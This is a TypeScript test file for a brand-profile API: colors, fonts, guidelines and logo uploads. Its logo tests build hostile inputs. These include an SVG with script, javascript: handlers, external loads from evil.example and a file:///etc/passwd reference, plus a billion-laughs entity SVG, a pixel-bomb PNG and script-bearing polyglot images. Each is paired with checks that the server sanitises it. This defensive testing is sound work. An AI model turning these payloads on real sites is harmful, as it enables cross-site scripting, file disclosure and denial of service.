import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as calls from '../../../domain/api/brand.ts';
import { UPLOAD_TEXTS } from '../../../domain/post/pictures.ts';
import { SAMPLE_BRAND } from '../../../domain/sample-brand.ts';
import { say } from '../../../tests/support/chat.ts';
import { make, send } from '../../../tests/support/client.ts';
import { newPerson, type Person } from '../../../tests/support/people.ts';
import { startTestProduct, type TestProduct } from '../../../tests/support/product.ts';
import { fileOf, pictureFile } from '../../../tests/support/stage/pictures.ts';

const GUIDELINES = {
  brand_name: 'Mill Lane Bakery',
  brand_tagline: 'Bread worth the walk',
  brand_keywords: ['sourdough', 'Leeds'],
  brand_mission: 'Good bread for the whole street',
  brand_tone_of_voice: 'warm, plain, a little proud',
  brand_logo_usage_guidelines: 'On white, never stretched',
};

let product: TestProduct;
let person: Person;
beforeAll(async () => {
  product = await startTestProduct();
  person = await newPerson(product);
});
afterAll(() => product.stop());

const profile = async (who = person) => (await make(product.url, calls.getBrandProfile, {}, who.identity)).body.data;
const upload = (files: Record<string, File>, who = person) =>
  make(product.url, calls.uploadBrandLogos, files, who.identity);
const load = async (address: string, who = person) => {
  const response = await fetch(`${product.url}${address}`, { headers: { cookie: who.cookie } });
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
};

describe('a brand', () => {
  it('BRAND-03 BRAND-04 BRAND-05 BRAND-06 BRAND-19 is answered whole, with its defaults, before anything was set', async () => {
    expect(await profile(await newPerson(product))).toEqual({
      logo: { default_logo: null, primary_logo: null, secondary_logo: null, favicon: null, appicon: null },
      colors: { primary_colors: '#143241', accent_colors: '#FB5931' },
      typography: { headings_font: 'Inter', body_font: 'Inter', is_chosen: false },
      guidelines: {
        brand_name: '',
        brand_tagline: '',
        brand_keywords: [],
        brand_mission: '',
        brand_tone_of_voice: '',
        brand_logo_usage_guidelines: '',
      },
    });
  });

  it('FIRST-04 can be a sample where none was set, which goes again as long as nothing of it was changed', async () => {
    const who = await newPerson(product);
    const set = () => make(product.url, calls.setSampleBrand, {}, who.identity);
    const remove = () => make(product.url, calls.removeSampleBrand, {}, who.identity);
    const unset = await profile(who);
    expect((await remove()).status).toBe(409);
    expect((await set()).body).toMatchObject({ message: 'Sample brand set', data: SAMPLE_BRAND });
    expect(await profile(who)).toMatchObject(SAMPLE_BRAND);
    expect((await set()).body).toMatchObject({
      code: 'CONFLICT',
      message: expect.stringContaining('You have a brand already'),
    });
    expect((await remove()).body.data).toEqual(unset);
    expect(await profile(who)).toEqual(unset);

    await set();
    const { colors, guidelines } = SAMPLE_BRAND;
    const own = { primary_color: '#000000', accent_color: colors.accent_colors };
    await make(product.url, calls.saveBrandColors, own, who.identity);
    expect([(await remove()).status, (await set()).status]).toEqual([409, 409]);
    expect(await profile(who)).toMatchObject({ colors: { primary_colors: '#000000' }, guidelines });
    // It keeps to the limits of the forms, in which it is edited.
    const input = { ...guidelines, brand_keywords: [...guidelines.brand_keywords] };
    expect((await make(product.url, calls.saveBrandGuidelines, input, who.identity)).status).toBe(200);
  });

  it('BRAND-20 BRAND-23 BRAND-33 keeps each part that is saved and leaves the others', async () => {
    const who = await newPerson(product);
    const colors = { primary_color: '112233', accent_color: ' #aBc ' };
    expect((await make(product.url, calls.saveBrandColors, colors, who.identity)).body.message).toBe('Colors saved');
    const fonts = { headings_font: 'Georgia', body_font: 'Roboto' } as const;
    expect((await make(product.url, calls.saveBrandTypography, fonts, who.identity)).body.message).toBe(
      'Typography saved',
    );
    const saved = await make(product.url, calls.saveBrandGuidelines, GUIDELINES, who.identity);
    expect(saved.body.message).toBe('Guidelines saved');
    expect(await profile(who)).toMatchObject({
      colors: { primary_colors: '#112233', accent_colors: '#aBc' },
      typography: { ...fonts, is_chosen: true },
      guidelines: GUIDELINES,
    });
    expect((await profile(person)).guidelines.brand_name).toBe('');
  });

  it('BRAND-37 counts fonts as chosen once they were saved, also those that a form begins with', async () => {
    const who = await newPerson(product);
    const colors = { primary_color: '#112233', accent_color: '#aabbcc' };
    await make(product.url, calls.saveBrandColors, colors, who.identity);
    expect((await profile(who)).typography.is_chosen).toBe(false);
    const look = { ...colors, brand_name: 'Lark', brand_tagline: 'Fresh sourdough bread' };
    const drawn = async (fonts: object) =>
      (await make(product.url, calls.previewBrand, { ...look, ...fonts }, who.identity)).body.data.image;
    const fonts = { headings_font: 'Inter', body_font: 'Inter' } as const;
    expect(await drawn(fonts)).not.toBe(await drawn({}));
    await make(product.url, calls.saveBrandTypography, fonts, who.identity);
    expect((await profile(who)).typography).toEqual({ ...fonts, is_chosen: true });
  });

  it.for([
    ['12', 'Enter a valid hex color (e.g., #1A2B3C)'],
    ['#12345', 'Enter a valid hex color (e.g., #1A2B3C)'],
    ['red', 'Enter a valid hex color (e.g., #1A2B3C)'],
    [7, 'Enter a valid hex color (e.g., #1A2B3C)'],
    ['#1234567', 'Enter a valid hex color (e.g., #1A2B3C)'],
    ['##123', 'Enter a valid hex color (e.g., #1A2B3C)'],
  ] as const)('BRAND-15 BRAND-18 refuses the colour %s', async ([color, message]) => {
    const input = { primary_color: color as string, accent_color: '#FB5931' };
    const { status, body } = await make(product.url, calls.saveBrandColors, input, person.identity);
    expect([status, body.message]).toEqual([400, message]);
  });

  it('BRAND-16 BRAND-17 adds a missing # and takes nothing for black', async () => {
    const who = await newPerson(product);
    await make(product.url, calls.saveBrandColors, { primary_color: '', accent_color: 'fed' }, who.identity);
    expect((await profile(who)).colors).toEqual({ primary_colors: '#000000', accent_colors: '#fed' });
  });

  it('BRAND-22 knows four fonts and no other', async () => {
    const input = { headings_font: 'Comic Sans' as 'Inter', body_font: 'Inter' as const };
    const { status, body } = await make(product.url, calls.saveBrandTypography, input, person.identity);
    expect([status, body.message]).toEqual([400, 'Choose one of Inter, Roboto, Arial, Georgia']);
  });

  it.for([
    ['brand_name', 30, 'Brand Name is required'],
    ['brand_tagline', 50, 'Tagline is required'],
    ['brand_keywords', 50, 'Enter at least one keyword (comma separated)'],
    ['brand_mission', 70, 'Mission is required'],
    ['brand_tone_of_voice', 100, 'Voice is required'],
    ['brand_logo_usage_guidelines', 50, 'Usage guidelines are required'],
  ] as const)(
    'BRAND-25 BRAND-26 BRAND-27 BRAND-28 BRAND-29 BRAND-30 BRAND-32 holds %s to %i characters',
    async ([field, limit, missing]) => {
      const save = (value: unknown) =>
        make(product.url, calls.saveBrandGuidelines, { ...GUIDELINES, [field]: value }, person.identity);
      for (const nothing of ['   ', undefined, null, []]) expect((await save(nothing)).body.message).toBe(missing);
      expect((await save('x'.repeat(limit + 3))).body.message).toBe(`Limit exceeded: ${limit + 3}/${limit} characters`);
      expect((await save('x'.repeat(limit))).status).toBe(200);
    },
  );

  it('takes keywords as a list or as people type them', async () => {
    const save = (brand_keywords: string | string[]) =>
      make(product.url, calls.saveBrandGuidelines, { ...GUIDELINES, brand_keywords }, person.identity);
    expect((await save(' a, b,, a ,c')).body.data.guidelines.brand_keywords).toEqual(['a', 'b', 'c']);
    expect((await save(['a', ' b '])).body.data.guidelines.brand_keywords).toEqual(['a', 'b']);
    expect((await save(' , ,')).body.message).toBe('Enter at least one keyword (comma separated)');
  });

  it('shapes the very next text and picture', async () => {
    const who = await newPerson(product);
    const voice = { ...GUIDELINES, brand_tone_of_voice: 'Warm and plain. Says loaf, never bread.' };
    await make(product.url, calls.saveBrandGuidelines, voice, who.identity);
    await make(product.url, calls.saveBrandColors, { primary_color: '#0b6e4f', accent_color: '#f0f' }, who.identity);
    const text = await say(product.url, who.identity, 'Write a LinkedIn post: our new rye bread is in the shop');
    expect(text.body.outputs[0]?.output).toBe('Our new rye loaf is in the shop.');
    const image = await say(product.url, who.identity, 'Make an Instagram picture that says "New: rye loaf"');
    const { bytes } = await load(String(image.body.outputs[0]?.output), who);
    const ofBrand = async (png: Buffer) => (await share(png, '#0b6e4f')) + (await share(png, '#ff00ff'));
    // The ground is a deep shade of the first colour; the sign of the brand has them as they are.
    expect(await ofBrand(bytes)).toBeGreaterThan(0.002);
    const plain = await say(product.url, person.identity, 'Make an Instagram picture that says "New: rye loaf"');
    expect(await ofBrand((await load(String(plain.body.outputs[0]?.output))).bytes)).toBeLessThan(0.001);
  });

  it('is drawn before it is saved, and the drawing is kept nowhere', async () => {
    const input = {
      primary_color: '#0b6e4f',
      accent_color: '#fc0',
      headings_font: 'Georgia',
      body_font: 'Inter',
      brand_name: 'Mill Lane',
      brand_tagline: '',
    } as const;
    const count = async () => (await product.sql('select 1 from media')).length;
    const before = await count();
    const { status, body } = await make(product.url, calls.previewBrand, input, person.identity);
    expect(status).toBe(200);
    const png = Buffer.from(body.data.image.replace('data:image/png;base64,', ''), 'base64');
    // The primary color carries large areas, whatever the words are; the accent is seen beside it.
    expect(await share(png, '#0b6e4f')).toBeGreaterThan(0.3);
    expect(await share(png, '#ffcc00')).toBeGreaterThan(0.01);
    const tagged = await make(product.url, calls.previewBrand, { ...input, brand_tagline: 'Bread' }, person.identity);
    const other = Buffer.from(tagged.body.data.image.replace('data:image/png;base64,', ''), 'base64');
    expect(await share(other, '#0b6e4f')).toBeGreaterThan(0.3);
    expect(await count()).toBe(before);
    expect((await profile()).colors.primary_colors).not.toBe('#0b6e4f');
  });

  it('BRAND-07 BRAND-14 BRAND-21 BRAND-24 BRAND-34 says what failed when nobody foresaw it', async () => {
    const broken = await startTestProduct();
    const who = await newPerson(broken);
    await broken.sql('alter table brands rename to brands_away');
    const told = async (reply: Promise<{ status: number; body: { message?: string } }>) => {
      const { status, body } = await reply;
      return [status, body.message];
    };
    expect(await told(make(broken.url, calls.getBrandProfile, {}, who.identity))).toEqual([
      500,
      'Failed to fetch brand profile',
    ]);
    const files = { primary_logo: await pictureFile(8, 8) };
    expect(await told(make(broken.url, calls.uploadBrandLogos, files, who.identity))).toEqual([
      500,
      'Failed to upload logos',
    ]);
    const colors = { primary_color: '#123', accent_color: '#123' };
    expect(await told(make(broken.url, calls.saveBrandColors, colors, who.identity))).toEqual([
      500,
      'Failed to save colors',
    ]);
    const fonts = { headings_font: 'Inter', body_font: 'Inter' } as const;
    expect(await told(make(broken.url, calls.saveBrandTypography, fonts, who.identity))).toEqual([
      500,
      'Failed to save typography',
    ]);
    expect(await told(make(broken.url, calls.saveBrandGuidelines, GUIDELINES, who.identity))).toEqual([
      500,
      'Failed to save guidelines',
    ]);
    await broken.stop();
  });
});

describe('a logo', () => {
  it('BRAND-13 is uploaded by its name, several at once, and served to its owner', async () => {
    const who = await newPerson(product);
    const { status, body } = await upload(
      {
        primary_logo: await pictureFile(300, 100),
        secondary_logo: await pictureFile(10, 10, { format: 'jpeg' }),
        favicon: await pictureFile(32, 32, { format: 'webp' }),
        appicon: fileOf('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle r="4"/></svg>', 'i.svg'),
      },
      who,
    );
    expect([status, body.message]).toEqual([200, 'Logos uploaded']);
    const { logo } = await profile(who);
    expect(logo.default_logo).toBe(logo.primary_logo);
    const types = ['image/png', 'image/jpeg', 'image/webp', 'image/svg+xml'];
    for (const [index, address] of [logo.primary_logo, logo.secondary_logo, logo.favicon, logo.appicon].entries()) {
      const { response } = await load(String(address), who);
      expect(response.headers.get('content-type')).toBe(types[index]);
      expect((await load(String(address), person)).response.status).toBe(404);
    }
    const next = await upload({ favicon: await pictureFile(16, 16) }, who);
    expect(next.body.data.logo).toMatchObject({ primary_logo: logo.primary_logo, appicon: logo.appicon });
    expect(next.body.data.logo.favicon).not.toBe(logo.favicon);
  });

  const png = async (width: number, height: number) =>
    new Uint8Array(await (await pictureFile(width, height)).arrayBuffer());

  it.for<[string, () => Promise<File> | File, string]>([
    ['a PDF named .png', () => fileOf('%PDF-1.7 …', 'logo.png', 'image/png'), UPLOAD_TEXTS.logoType],
    ['HTML named .png', () => fileOf('<html><script>1</script>', 'a.png', 'image/png'), UPLOAD_TEXTS.logoType],
    ['a GIF', () => pictureFile(8, 8, { format: 'gif' }), UPLOAD_TEXTS.logoType],
    ['an empty file', () => fileOf('', 'a.png', 'image/png'), UPLOAD_TEXTS.logoType],
    ['6 MB', () => fileOf(new Uint8Array(6 * 1024 * 1024), 'a.png', 'image/png'), UPLOAD_TEXTS.logoTooLarge],
    ['1025 px', () => pictureFile(1025, 10), UPLOAD_TEXTS.logoTooWide],
    ['a pixel bomb', () => fileOf(pngHead(30_000, 30_000), 'a.png', 'image/png'), UPLOAD_TEXTS.logoTooWide],
    ['half a picture', async () => fileOf((await png(600, 600)).slice(0, 90), 'a.png'), UPLOAD_TEXTS.logoUnreadable],
    [
      'only the first bytes',
      () =>
        fileOf(
          '\x89PNG\r\n\x1a\n'.split('').reduce((all, c, i) => all.with(i, c.charCodeAt(0)), new Uint8Array(8)),
          'a.png',
        ),
      UPLOAD_TEXTS.logoUnreadable,
    ],
    ['a broken SVG', () => fileOf('<svg xmlns="http://www.w3.org/2000/svg"><g>', 'a.svg'), UPLOAD_TEXTS.logoUnreadable],
  ])('BRAND-08 BRAND-09 BRAND-10 BRAND-11 %s is refused, and the old one stays', async ([, file, message]) => {
    await upload({ primary_logo: await pictureFile(20, 20) });
    const before = await profile();
    const { status, body } = await upload({ favicon: await pictureFile(16, 16), primary_logo: await file() });
    expect([status, body.message]).toEqual([400, message]);
    expect(await profile()).toEqual(before);
  });

  it('is taken away again, by who has it', async () => {
    const { body } = await upload({ favicon: await pictureFile(16, 16) });
    const other = await newPerson(product);
    await make(product.url, calls.removeBrandLogo, { kind: 'favicon' }, other.identity);
    expect((await profile()).logo).toEqual(body.data.logo);
    const removed = await make(product.url, calls.removeBrandLogo, { kind: 'favicon' }, person.identity);
    expect(removed.body).toMatchObject({
      message: 'Logo removed',
      data: { logo: { ...body.data.logo, favicon: null } },
    });
    const unknown = { kind: 'userId' as 'favicon' };
    expect((await make(product.url, calls.removeBrandLogo, unknown, person.identity)).status).toBe(400);
  });

  it('BRAND-12 must be there at all', async () => {
    const nothing = new FormData();
    nothing.append('unknown', 'x');
    const { sessionId, userId } = person.identity;
    const headers = { 'x-session-id': sessionId, 'x-user-id': userId };
    const reply = await send<{ message: string }>(`${product.url}/api/brand/logos`, {
      method: 'POST',
      headers,
      body: nothing,
    });
    expect([reply.status, reply.body.message]).toEqual([400, 'No logo files provided for upload']);
  });

  it('loses whatever hid in a picture behind or beside its pixels', async () => {
    const hidden = '<script>alert(1)</script>';
    const polyglot = Buffer.concat([await png(40, 40), Buffer.from(hidden)]);
    const withComment = await sharp(await png(40, 40))
      .withExif({ IFD0: { ImageDescription: hidden } })
      .jpeg()
      .toBuffer();
    for (const bytes of [polyglot, withComment]) {
      const { body } = await upload({ primary_logo: fileOf(new Uint8Array(bytes), 'a.html', 'text/html') });
      const { bytes: served, response } = await load(String(body.data.logo.primary_logo));
      expect(served.includes('alert')).toBe(false);
      expect(response.headers.get('content-type')).toMatch(/^image\/(png|jpeg)$/);
    }
  });

  it('keeps the drawing of an SVG and nothing that runs, loads or leads outside', async () => {
    const { status, body } = await upload({ primary_logo: fileOf(EVIL_SVG, 'logo.svg', 'image/svg+xml') });
    expect(status).toBe(200);
    const { bytes, response } = await load(String(body.data.logo.primary_logo));
    const svg = bytes.toString('utf8');
    for (const word of [
      'script',
      'onload',
      'foreignObject',
      'http://evil',
      'https://evil',
      'javascript:',
      '@import',
      'ENTITY',
      'file:',
      '<a',
      'set ',
    ])
      expect(svg, word).not.toContain(word);
    expect(svg).toContain('linearGradient');
    expect(svg).toContain('url(#paint)');
    expect(svg).toContain('<use');
    expect(response.headers.get('content-security-policy')).toMatch(/^default-src 'none';.*sandbox$/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('does not swell by what its DTD declares', async () => {
    const { body } = await upload({ primary_logo: fileOf(LAUGHS, 'a.svg') });
    const { bytes } = await load(String(body.data.logo.primary_logo));
    expect(bytes.length).toBeLessThan(1000);
    expect(bytes.toString()).not.toContain('ENTITY');
  });
});

/** How much of a picture is (nearly) of a colour. */
async function share(picture: Uint8Array, hex: string): Promise<number> {
  const { data, info } = await sharp(picture).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  const wanted = [1, 3, 5].map((at) => Number.parseInt(hex.slice(at, at + 2), 16));
  let hits = 0;
  for (let at = 0; at < data.length; at += 3)
    if (wanted.every((value, channel) => Math.abs((data[at + channel] ?? 0) - value) <= 6)) hits++;
  return hits / (info.width * info.height);
}

/** A PNG that says it is enormous and holds next to nothing. */
function pngHead(width: number, height: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const start = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return new Uint8Array(
    Buffer.concat([
      start,
      chunk('IHDR', head),
      chunk('IDAT', deflateSync(Buffer.alloc(1000))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}">${[...'bcdefgh']
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefg'[index]};`.repeat(10)}">`)
  .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>`;

const EVIL_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="alert(1)">
  <script>alert(1)</script>
  <script href="https://evil.example/x.js"/>
  <style>@import url("https://evil.example/x.css"); .a { fill: red }</style>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>
  <defs><linearGradient id="paint"><stop offset="0" stop-color="#123456"/></linearGradient><rect id="box" width="9" height="9"/></defs>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <image xlink:href="file:///etc/passwd" width="1" height="1"/>
  <a xlink:href="javascript:alert(1)"><text>press</text></a>
  <rect width="10" height="10" style="fill: url(https://evil.example/a.svg#b)" onclick="alert(1)"/>
  <set attributeName="href" to="javascript:alert(1)"/>
  <use href="#box"/><use href="https://evil.example/x.svg#y"/>
  <circle r="40" fill="url(#paint)"/>
</svg>`;
